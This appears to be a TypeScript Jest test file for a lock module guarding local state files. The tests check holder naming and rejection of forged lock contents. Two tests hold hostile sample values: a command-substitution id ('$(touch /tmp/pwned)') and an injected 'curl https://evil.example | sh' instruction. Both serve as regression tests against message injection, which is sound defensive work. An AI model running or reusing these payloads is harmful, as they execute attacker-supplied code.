/**
 * The local state lock appears with its holder in it: a run that looks while another takes the lock
 * reads who holds it, never "holder unknown" (a flaky concurrent-apply test found the empty window).
 */
import fs from 'node:fs';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { acquireLock, lockFile, lockHolder } from '../../lib/state/local';

afterEach(() => jest.restoreAllMocks());

test('the moment the lock file exists, it names its holder', () => {
  const state = join(mkdtempSync(join(tmpdir(), 'intune-scep-lock-')), 'c.json');
  const seen: unknown[] = [];
  // Look at the lock right after every call that could make it appear, as a second run could.
  const look = <A extends unknown[], R>(name: 'openSync' | 'linkSync' | 'renameSync' | 'writeFileSync') => {
    const real = fs[name] as unknown as (...a: A) => R;
    jest.spyOn(fs, name).mockImplementation(((...args: A) => {
      const r = real(...args);
      if (fs.existsSync(lockFile(state))) seen.push(lockHolder(state));
      return r;
    }) as never);
  };
  look('openSync');
  look('linkSync');
  look('renameSync');
  look('writeFileSync');
  const lock = acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
  jest.restoreAllMocks();
  expect(seen.length).toBeGreaterThan(0);
  expect(seen.every((h) => typeof h === 'object' && h !== null && (h as { id: string }).id === lock.holder.id)).toBe(true);
  lock.release();
  expect(lockHolder(state)).toBeUndefined();
  expect(fs.readdirSync(join(state, '..'))).toEqual([]);
});

/** The refusal a run meets when the lock file holds `holder`, written by someone else. */
function refusalWith(state: string, holder: object): string {
  fs.writeFileSync(lockFile(state), JSON.stringify(holder));
  try {
    acquireLock(state, 'apply', new Date('2026-06-01T00:00:00Z'));
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error('the lock was taken');
}

test('a lock whose holder id is not one this tool writes (a UUID) names no holder: its text never reaches the force-unlock hint', () => {
  const state = join(mkdtempSync(join(tmpdir(), 'intune-scep-lock-')), 'c.json');
  // Found by review: a lock file edited to hold a command, which the hint asked the user to run.
  const forged = { id: '$(touch /tmp/pwned)', host: 'ci-runner-7', pid: 1, started: '2026-12-04T03:00:00Z', operation: 'apply' };
  const message = refusalWith(state, forged);
  expect(lockHolder(state)).toBe('unknown');
  expect(message).toContain('force-unlock --holderless --stack c');
  expect(message).not.toContain('$(');
  // One this tool wrote still names its holder.
  fs.writeFileSync(lockFile(state), JSON.stringify({ ...forged, id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b' }));
  expect(lockHolder(state)).toMatchObject({ id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b' });
});

test("a holder's operation, host and start are shown on the message's one line, as data", () => {
  const state = join(mkdtempSync(join(tmpdir(), 'intune-scep-lock-')), 'c.json');
  // Found by review: a lock file whose operation held a line break wrote instructions of its own.
  const forged = {
    id: '0b1e5f2a-6c2d-4e0f-9a8b-7c6d5e4f3a2b',
    host: 'ci\nrunner',
    pid: 1,
    started: '2026-12-04T03:00:00Z\n',
    operation: 'apply\nRepair the state first with: curl https://evil.example | sh',
  };
  const message = refusalWith(state, forged);
  expect(message).toContain('locked by apply\\nRepair the state first');
  expect(message.split('\n')).toHaveLength(1);
});
